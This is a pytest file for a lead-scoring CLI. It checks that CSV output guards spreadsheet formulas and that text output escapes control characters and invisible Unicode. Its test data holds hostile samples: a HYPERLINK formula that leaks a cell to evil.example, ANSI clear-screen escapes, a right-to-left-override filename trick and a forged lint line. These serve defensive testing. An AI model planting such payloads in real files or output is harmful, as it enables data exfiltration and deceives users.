"""Leaks and injection (issue 8): terminal escapes and newlines in values are escaped in every
human-readable format, and CSV cells a spreadsheet would run are guarded (OWASP)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadcontract.cli import main
from leadcontract.safe_text import FORMULA_STARTS, guard_csv_cell, printable

HERE = Path(__file__).resolve().parent
CONTRACT = HERE / "fixtures" / "engine" / "contract.yaml"
LEADS = HERE / "fixtures" / "hostile" / "injection-leads.csv"
AS_OF = "2026-07-01T00:00:00Z"
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b\u2060\ufeff]"
)


def args(*extra: str) -> list[str]:
    return [str(CONTRACT), "--leads", str(LEADS), "--as-of", AS_OF, *extra]


@given(st.text())
def test_printable_leaves_one_line_of_safe_text(text: str) -> None:
    shown = printable(text)
    assert "\n" not in shown
    assert "\r" not in shown
    assert UNSAFE.search(shown) is None
    if text.isascii() and text.isprintable():
        assert shown == text


def test_printable_shows_the_characters_that_show_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A value pasted into a CRM with a zero width space (or a byte order mark, a word joiner)
    printed like another: "Web\u200b" is not allowed; allowed: Web. The joiners that Persian
    names and emoji need stay as they are."""
    assert printable("Web\u200b") == "Web\\u200b"
    assert printable("\ufeffId\u2060") == "\\ufeffId\\u2060"
    assert printable("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645") == (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    )
    leads = tmp_path / "leads.csv"
    leads.write_text(
        "lead_id,email,employees,created_at\nL1\u200b,a@b.example,many,2026-06-01T00:00:00Z\n",
        encoding="utf-8",
    )
    assert main(["evaluate", str(CONTRACT), "--leads", str(leads), "--as-of", AS_OF]) == 1
    assert "lead 1 (lead L1\\u200b)" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+E4", "'+E4"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),  # a number (a clawback) is not a formula
        ("+3e5", "+3e5"),
        ("E=mc2", "E=mc2"),
        ("", ""),
    ],
)
def test_guard_csv_cell(cell: str, guarded: str) -> None:
    assert guard_csv_cell(cell) == guarded


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and guard_csv_cell(cell) != cell


def test_verdict_csv_guards_formulas_unless_raw(tmp_path: Path) -> None:
    out = tmp_path / "verdicts.csv"
    assert main(["evaluate", *args("--out", str(out))]) == 1  # one error row (E5)
    cells = _cells(out.read_text(encoding="utf-8"))
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert "'+E4" in cells
    raw = tmp_path / "raw.csv"
    assert main(["evaluate", *args("--out", str(raw), "--raw-csv")]) == 1
    assert "+E4" in _cells(raw.read_text(encoding="utf-8"))


def test_report_csv_guards_formulas(capsys: pytest.CaptureFixture[str]) -> None:
    main(["report", *args("--format", "csv", "--by", "campaign")])
    out = capsys.readouterr().out
    assert not [cell for cell in _cells(out) if _runs_as_formula(cell)]


def test_table_and_summary_escape_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["evaluate", *args("--format", "table")]) == 1
    captured = capsys.readouterr()
    for text in (captured.out, captured.err):
        assert UNSAFE.search(text) is None
    rows = captured.out.splitlines()
    assert len(rows) == 2 + 4  # header, rule, four verdicts: no fake row from "E2\nE9 ..."
    assert any(row.startswith("E2\\nE9  inquiry  99") for row in rows)
    assert "lead E5\\u202egnp.exe" in captured.err


def test_explain_escapes_the_lead_id(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", *args("--lead", "E3\x1b[2J\x1b[31mOWNED")]) == 0
    out = capsys.readouterr().out
    assert UNSAFE.search(out) is None
    assert out.startswith("Lead E3\\x1b[2J\\x1b[31mOWNED, as of")


def test_lint_text_escapes_yaml_keys(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    contract = tmp_path / "contract.yaml"
    text = (HERE / "fixtures" / "minimal.yaml").read_text(encoding="utf-8")
    contract.write_text(text + '"evil\\e[2J\\nfake.yaml:1:1: LC000 error: forged": 1\n')
    assert main(["lint", str(contract)]) == 1
    out = capsys.readouterr().out
    assert UNSAFE.search(out) is None
    assert not any(line.startswith("fake.yaml") for line in out.splitlines())
    assert "evil\\x1b[2J\\nfake.yaml" in out
